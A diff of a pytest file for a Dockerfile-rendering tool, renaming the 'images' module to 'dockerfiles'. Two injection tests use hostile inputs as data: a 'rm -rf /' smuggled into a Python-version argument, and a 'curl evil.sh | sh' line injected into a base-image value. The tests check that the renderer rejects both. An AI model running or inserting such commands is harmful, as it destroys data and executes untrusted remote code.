@@ -7,8 +7,8 @@ from pathlib import Path
 
 import jinja2
 import pytest
-from reprokit import images
-from reprokit.schema import InputError, load_matrix
+from reprokit.images import dockerfiles
+from reprokit.model.schema import InputError, load_matrix
 
 ROOT = Path(__file__).resolve().parents[1]
 TEMPLATES = ROOT / "images"
@@ -18,7 +18,7 @@ MATRIX = load_matrix(ROOT / "matrix.yaml")
 @pytest.mark.parametrize("name", list(MATRIX.targets))
 def test_every_target_renders_and_passes_hadolint(name, tmp_path):
     dockerfile = tmp_path / "Dockerfile"
-    dockerfile.write_text(images.render(TEMPLATES, name, MATRIX.targets[name]))
+    dockerfile.write_text(dockerfiles.render(TEMPLATES, name, MATRIX.targets[name]))
     hadolint = shutil.which("hadolint") or str(Path(sys.executable).with_name("hadolint"))
     proc = subprocess.run([hadolint, "--config", str(ROOT / ".hadolint.yaml"), str(dockerfile)],
                           capture_output=True, text=True)
@@ -31,24 +31,24 @@ def test_every_target_renders_and_passes_hadolint(name, tmp_path):
 def test_committed_dockerfiles_are_current():
     for name, target in MATRIX.targets.items():
         committed = (ROOT / "images" / "rendered" / f"{name}.Dockerfile").read_text()
-        assert committed == images.render(TEMPLATES, name, target), f"run `reprokit images` ({name} is stale)"
+        assert committed == dockerfiles.render(TEMPLATES, name, target), f"run `reprokit images` ({name} is stale)"
 
 
 def test_tag_changes_with_content_and_only_with_content():
     cpu = MATRIX.targets["cpu"]
-    tag = images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
-    assert tag == images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
+    tag = dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
+    assert tag == dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
     bumped = cpu.model_copy(update={"pins": cpu.pins.model_copy(update={"torch": cpu.pins.torch + ".post1"})})
-    assert images.image_tag(TEMPLATES, "cpu", bumped, cpu.base_image, None) != tag
-    assert images.image_tag(TEMPLATES, "cpu", cpu, "local/debian:bookworm", None) != tag
-    assert images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"]) != tag
-    assert (images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"])
-            != images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-y.whl"]))
-    assert images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None, base_python="3.12") != tag
+    assert dockerfiles.image_tag(TEMPLATES, "cpu", bumped, cpu.base_image, None) != tag
+    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, "local/debian:bookworm", None) != tag
+    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"]) != tag
+    assert (dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"])
+            != dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-y.whl"]))
+    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None, base_python="3.12") != tag
 
 
 def test_wheelhouse_installs_offline_only():
-    text = images.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], wheelhouse=["torch-2.13.0+cpu-x.whl"])
+    text = dockerfiles.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], wheelhouse=["torch-2.13.0+cpu-x.whl"])
     assert '--no-index --find-links "${WHEELHOUSE_URL}"' in text and "index-url" not in text
     assert "COPY" not in text  # served to the build: never a layer of the image
 
@@ -56,7 +56,7 @@ def test_wheelhouse_installs_offline_only():
 @pytest.mark.parametrize("name", list(MATRIX.targets))
 def test_torch_comes_from_its_own_index_alone_and_the_rest_from_pypi(name):
     target = MATRIX.targets[name]
-    text = images.render(TEMPLATES, name, target)
+    text = dockerfiles.render(TEMPLATES, name, target)
     assert "extra-index-url" not in text and "triton==" not in text and "matplotlib" not in text
     torch_line = next(line for line in text.splitlines() if f"torch=={target.pins.torch}" in line)
     assert torch_line.split("pip install ")[1].split() == (
@@ -66,15 +66,15 @@ def test_torch_comes_from_its_own_index_alone_and_the_rest_from_pypi(name):
 
 def test_the_base_python_replaces_the_matrix_python():
     h100 = MATRIX.targets["h100"]
-    assert h100.python == "3.12" and "python3.12-venv" in images.render(TEMPLATES, "h100", h100)
-    text = images.render(TEMPLATES, "h100", h100, base_image="local/debian:bookworm", base_python="3.11")
+    assert h100.python == "3.12" and "python3.12-venv" in dockerfiles.render(TEMPLATES, "h100", h100)
+    text = dockerfiles.render(TEMPLATES, "h100", h100, base_image="local/debian:bookworm", base_python="3.11")
     assert "python3.11 -m venv" in text and "3.12" not in text
     with pytest.raises(InputError, match="--base-python"):
-        images.render(TEMPLATES, "h100", h100, base_python="3.11; rm -rf /")
+        dockerfiles.render(TEMPLATES, "h100", h100, base_python="3.11; rm -rf /")
 
 
 def test_ascend_sets_up_cann_at_container_start_and_imports_torch_npu_only_there():
-    text = images.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
+    text = dockerfiles.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
     build_lines = [line for line in text.splitlines() if line.startswith("RUN")]
     assert not any("torch_npu" in line for line in build_lines)  # the driver is mounted at run time only
     assert "ENV LD_LIBRARY_PATH" not in text  # the base image's (CANN's) library path stays
@@ -87,7 +87,7 @@ def test_ascend_sets_up_cann_at_container_start_and_imports_torch_npu_only_there
 
 def _entrypoint_on_this_machine(tmp_path: Path) -> list[str]:
     """The Ascend image's ENTRYPOINT, with /usr/local/Ascend moved under tmp_path."""
-    text = images.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
+    text = dockerfiles.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
     (entrypoint,) = [line for line in text.splitlines() if line.startswith("ENTRYPOINT")]
     argv = json.loads(entrypoint[len("ENTRYPOINT"):])
     return [arg.replace("/usr/local/Ascend", str(tmp_path / "Ascend")) for arg in argv]
@@ -130,13 +130,13 @@ def test_the_ascend_entrypoint_stops_when_the_self_test_fails(tmp_path):
 
 def test_a_base_image_override_cannot_inject_a_line():
     with pytest.raises(InputError, match="one image reference"):
-        images.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], base_image="debian\nRUN curl evil.sh | sh")
+        dockerfiles.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], base_image="debian\nRUN curl evil.sh | sh")
 
 
 def test_templates_are_strict_about_undefined_values(tmp_path):
     (tmp_path / "cpu.Dockerfile.j2").write_text("FROM {{ base_imag }}\n")
     with pytest.raises(jinja2.UndefinedError):
-        images.render(tmp_path, "cpu", MATRIX.targets["cpu"])
+        dockerfiles.render(tmp_path, "cpu", MATRIX.targets["cpu"])
 
 
 def test_the_image_holds_every_dependency_of_the_runner_but_the_hosts():
@@ -147,5 +147,5 @@ def test_the_image_holds_every_dependency_of_the_runner_but_the_hosts():
 
     wanted = {re.split(r"[<>=!~ ;\[]", d)[0].lower()
               for d in tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]}
-    pinned = {p.split("==")[0].lower() for p in images.RUNNER_PACKAGES}
-    assert wanted - set(images.HOST_ONLY) == pinned
+    pinned = {p.split("==")[0].lower() for p in dockerfiles.RUNNER_PACKAGES}
+    assert wanted - set(dockerfiles.HOST_ONLY) == pinned
